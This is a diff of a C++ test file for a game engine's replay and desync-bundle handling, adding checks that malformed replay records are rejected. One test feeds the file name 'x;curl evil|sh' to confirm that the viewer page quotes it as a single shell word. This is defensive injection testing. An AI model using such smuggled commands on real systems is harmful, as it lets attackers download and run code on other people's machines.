@@ -1,5 +1,6 @@
 // Replays with keyframes (format 4), ranged reads, desync bundles and the viewer page's data.
 #include <doctest/doctest.h>
+#include <flatbuffers/flatbuffers.h>
 #include <unistd.h>
 
 #include <filesystem>
@@ -15,6 +16,7 @@
 #include "lockstep/replay.hpp"
 #include "lockstep/scenario.hpp"
 #include "lockstep/state_hash.hpp"
+#include "lockstep/wire/replay_generated.h"
 
 using namespace lockstep;
 
@@ -262,5 +264,53 @@ TEST_SUITE("core/keyframes") {
     longer.push_back(0);
     fault(longer, ReplayError::Corrupt, "data after the bundle");
     fs::remove(p);
+
+    // Report fields of the wrong types make no page fail; a file name from the report is quoted
+    // as one shell word in the commands the page offers.
+    DesyncBundle odd = back;
+    odd.report = Json{{"where", 5}, {"name", Json::array()}, {"entity", "x"}, {"field", 3},
+                      {"differing_fields", Json::array({1, Json{{"server", 2}, {"client", "y"}}})},
+                      {"replay", {{"file", "x;curl evil|sh"}, {"tick", 120}}}};
+    const Json odd_data = bundle_page_data(arena_module(), odd, "b.bundle");
+    CHECK(odd_data["difference"]["where"] != "none");
+    const std::string commands = odd_data["commands"].dump();
+    CHECK(commands.find("'x;curl evil|sh'") != std::string::npos);
+  }
+
+  TEST_CASE("a replay record of no known kind, or a kind without its table, is refused") {
+    const Replay r = scenario_replay(golden_scenario(arena_module()), 120, 0);
+    std::vector<std::uint8_t> bytes = replay_bytes(r);
+    // A record whose union names a kind past the schema's, the checksum made good again.
+    flatbuffers::FlatBufferBuilder fbb;
+    const auto end = replay::CreateReplayEnd(fbb, 120, fbb.CreateString("x"));
+    fbb.Finish(replay::CreateRecord(fbb, static_cast<replay::Chunk>(9), end.Union()), replay::RecordIdentifier());
+    flatbuffers::FlatBufferBuilder empty;
+    replay::RecordBuilder rb(empty);
+    rb.add_chunk_type(replay::Chunk::ReplayEnd);  // a kind, and no table
+    empty.Finish(rb.Finish(), replay::RecordIdentifier());
+    for (flatbuffers::FlatBufferBuilder* b : {&fbb, &empty}) {
+      std::vector<std::uint8_t> file(bytes.begin(), bytes.end());
+      // Replace the end record (the last) with this one.
+      Replay cut;
+      std::string detail;
+      REQUIRE(parse_replay(file, &cut, &detail) == ReplayError::None);
+      std::size_t pos = 8, last = 8;
+      while (pos < file.size()) {
+        last = pos;
+        pos += 12 + (file[pos] | file[pos + 1] << 8 | file[pos + 2] << 16 | static_cast<std::size_t>(file[pos + 3]) << 24);
+      }
+      file.resize(last);
+      std::vector<std::uint8_t> head(12);
+      const std::uint32_t n = b->GetSize();
+      const std::uint64_t sum = hash_bytes({b->GetBufferPointer(), n});
+      for (int i = 0; i < 4; ++i) head[i] = static_cast<std::uint8_t>(n >> (8 * i));
+      for (int i = 0; i < 8; ++i) head[4 + i] = static_cast<std::uint8_t>(sum >> (8 * i));
+      file.insert(file.end(), head.begin(), head.end());
+      file.insert(file.end(), b->GetBufferPointer(), b->GetBufferPointer() + n);
+      Replay out;
+      CHECK(parse_replay(file, &out, &detail) == ReplayError::Corrupt);
+      CHECK_MESSAGE((detail.find("no known kind") != std::string::npos || detail.find("empty record") != std::string::npos ||
+                     detail.find("does not verify") != std::string::npos), detail);
+    }
   }
 }
